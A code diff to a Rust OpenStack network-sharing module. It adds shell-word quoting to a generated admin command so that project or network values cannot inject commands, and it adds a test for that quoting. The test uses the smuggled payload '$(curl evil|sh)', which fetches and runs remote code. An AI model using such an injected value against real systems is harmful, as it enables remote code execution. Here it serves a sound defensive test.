@@ -5,6 +5,7 @@
 //! Not wired into the reconcile yet (issue 8): these are the rules the share step will call.
 
 use bnerd_api::Reason;
+use bnerd_api::echo::shell_word;
 use bnerd_cloud::{ACCESS_AS_SHARED, CloudError, NeutronErrorKind, RbacPolicy};
 
 use super::StepFail;
@@ -27,10 +28,14 @@ impl Credential<'_> {
     }
 }
 
-/// The one-time command an OpenStack admin runs when the operator may not share.
+/// The one-time command an OpenStack admin runs when the operator may not share. The project
+/// comes from the spec (anything an older CRD admitted) and the network from the cloud: each
+/// is one shell word, so pasting the command never runs what a value smuggled in.
 pub fn share_command(project: &str, network: &str) -> String {
     format!(
-        "openstack network rbac create --type network --action {ACCESS_AS_SHARED} --target-project {project} {network}"
+        "openstack network rbac create --type network --action {ACCESS_AS_SHARED} --target-project {} {}",
+        shell_word(project),
+        shell_word(network)
     )
 }
 
@@ -171,6 +176,19 @@ mod tests {
             }
             other => panic!("{other:?}"),
         }
+    }
+
+    /// A project ID that is not a plain word reaches the pasted command as one quoted word.
+    #[test]
+    fn the_share_command_quotes_what_it_interpolates() {
+        assert_eq!(
+            share_command("$(curl evil|sh)", "net"),
+            "openstack network rbac create --type network --action access_as_shared --target-project '$(curl evil|sh)' net"
+        );
+        assert_eq!(
+            share_command("0123456789abcdef0123456789abcdef", "n 1"),
+            "openstack network rbac create --type network --action access_as_shared --target-project 0123456789abcdef0123456789abcdef 'n 1'"
+        );
     }
 
     #[test]
